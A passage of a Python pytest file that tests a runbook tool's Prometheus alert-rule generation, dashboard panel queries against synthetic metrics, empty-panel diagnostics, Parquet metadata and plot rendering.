    assert printed.returncode == 0 and printed.stdout == SHIPPED.read_text()
    written = tmp_path / "rules.yml"
    assert runbook("alerts", "rules", "--target", name, "--output", str(written)).stdout == ""
    assert 'job="shrimp"' in written.read_text() and 'job="shrimp-api"' not in written.read_text()
    assert "BackupTooOld" in printed.stdout and "BackupTooOld" not in written.read_text()  # nothing tells of any here
    scaled = runbook("alerts", "rules", "--time-scale", "0.1", "--objective", "99.9", "--base", "https://x.example/r")
    assert "[30s]" in scaled.stdout and "runbook_url: https://x.example/r/notebooks/" in scaled.stdout
    assert json.loads(runbook("alerts", "dashboard", "--target", name).stdout)["panels"]
    for option, value, allowed in (("--objective", "100", "less than 100"), ("--time-scale", "0", "at most 1000")):
        refused = runbook("alerts", "rules", option, value)
        assert refused.returncode == 64 and f"'{value}' is to be a number, more than 0 and" in refused.stderr
        assert allowed in refused.stderr
    assert runbook("alerts", "rules", "--output", str(tmp_path / "no" / "rules.yml")).returncode == 70


FALLING = 4.0


@pytest.fixture(scope="module")
def busy(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Running]:
    """A Prometheus that remembers three hours: 2% errors, 240 log-ins in the last, a queue that falls by 4 a minute."""
    texts: dict[str, list[str]] = {}
    for number in range(181):
        at = NOW - timedelta(minutes=180 - number)
        paths = ("/documents", "/triage/queue")
        for path in paths:
            for status, per_minute in (("200", 49.0), ("500", 1.0)):
                labels = {"job": "shrimp-api", "path": path, "status": status}
                count = per_minute * number
                texts.setdefault("http_requests", []).append(line("http_requests_total", labels, count, at))
        for role in ("admin", "annotator"):
            labels = {"job": "shrimp-api", "role": role}
            texts.setdefault("user_login", []).append(line("user_login_total", labels, 2.0 * number, at))
        labels = {"job": "shrimp-api"}
        texts.setdefault("triage_queue_size", []).append(line("triage_queue_size", labels, 1000 - FALLING * number, at))
    kinds = {"triage_queue_size": "gauge"}
    text = "\n".join(f"# TYPE {name} {kinds.get(name, 'counter')}\n" + "\n".join(told) for name, told in texts.items())
    with prometheus(tmp_path_factory.mktemp("busy"), past=text) as running:
        yield running


def test_each_panel_tells_the_truth_beside_what_the_runbooks_own_query_would_show(
    busy: Running, profile: Callable[..., str]
) -> None:
    run = open_run("test", needs=["prometheus"], target=profile(named(url=busy.url)))
    window = questions.window(2, NOW.isoformat())

    def both(question: Any) -> tuple[Finding, Finding]:
        right, written = run.ask(question, window=window).findings
        return right, written

    right, written = both(questions.panel_request_rate)
    assert right.value == pytest.approx(100, rel=0.02) and "4 lines, one for each method" in written.message
    right, written = both(questions.panel_error_rate)
    assert right.value == pytest.approx(2, rel=0.02) and "each of 2 lines at 1," in written.message
    right, written = both(questions.panel_logins)
    assert right.value == pytest.approx(240, rel=0.02) and "would show 2: it counts series" in written.message
    right, written = both(questions.panel_queue_growth)
    assert right.value == pytest.approx(-FALLING, rel=0.02)
    shown = float(written.message.split("would show ")[1].split(" items/min")[0].replace(",", ""))
    assert shown > 0 and "never less than 0" in written.message
    (missing,) = run.ask(questions.panel_response_time, window=window).findings
    assert missing.status is Status.UNKNOWN and "an empty panel is not a 0" in missing.message


def test_an_empty_panel_names_the_label_with_which_its_metric_is_there(
    tmp_path: Path, profile: Callable[..., str]
) -> None:
    moments = [NOW - timedelta(minutes=number) for number in range(30, -1, -1)]
    lines = [
        line("http_requests_total", {"job": job, "code": "200"}, 60.0 * place, at)
        for job in ("shrimp", "unlabelled")
        for place, at in enumerate(moments)
    ]
    with prometheus(tmp_path / "p", past="# TYPE http_requests counter\n" + "\n".join(lines)) as running:
        window = questions.window(1, NOW.isoformat())

        def told(job: str) -> Finding:
            more = f'[prometheus.jobs]\napi = "{job}"\n'
            run = open_run("test", needs=["prometheus"], target=profile(named(url=running.url, more=more)))
            (finding,) = run.ask(questions.panel_error_rate, window=window).findings
            return finding

        unlabelled, elsewhere = told("unlabelled"), told("shrimp-api")
    assert "no series of http_requests_total carries the label status" in unlabelled.message
    assert 'not with the label job="shrimp-api" that is asked for (job: shrimp, unlabelled)' in elsewhere.message
    assert "[prometheus.jobs]" in elsewhere.next and unlabelled.status is elsewhere.status is Status.UNKNOWN


@pytest.mark.parametrize("question", [questions.panel_error_rate, questions.alert_history, questions.request_rate])
def test_what_an_answer_says_of_itself_is_kept_with_its_data_and_no_warning_is_written(
    question: Any, busy: Running, profile: Callable[..., str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("RUNBOOK_SPOOL", str(tmp_path))
    run = open_run("test", needs=["prometheus"], target=profile(named(url=busy.url)))
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        answer = run.ask(question)
    assert answer.data is not None and answer.frame is not None
    assert pd.read_parquet(tmp_path / answer.data.file).attrs.keys() == answer.frame.attrs.keys() != set()


def test_plots_of_panels_and_of_the_history_are_drawn_also_of_nothing(
    busy: Running, profile: Callable[..., str]
) -> None:
    run = open_run("test", needs=["prometheus"], target=profile(named(url=busy.url)))
    window = questions.window(2, NOW.isoformat())
    for question in (questions.panel_error_rate, questions.panel_response_time):
        shown = questions.PanelPlot(run.ask(question, window=window))._repr_mimebundle_()
        assert shown["image/png"].startswith(b"\x89PNG")
    history = questions.AlertTimes(run.ask(questions.alert_history, days=1))
    assert history._repr_mimebundle_()["image/png"] and "alerts would have fired" in history.text()
    nowhere = open_run("test", needs=["prometheus"], target=profile(named(url=f"http://127.0.0.1:{free_port()}")))
    empty = questions.PanelPlot(nowhere.ask(questions.panel_logins))
    assert empty._repr_mimebundle_()["image/png"].startswith(b"\x89PNG")
    assert questions.AlertTimes(nowhere.ask(questions.alert_history))._repr_mimebundle_()["image/png"]
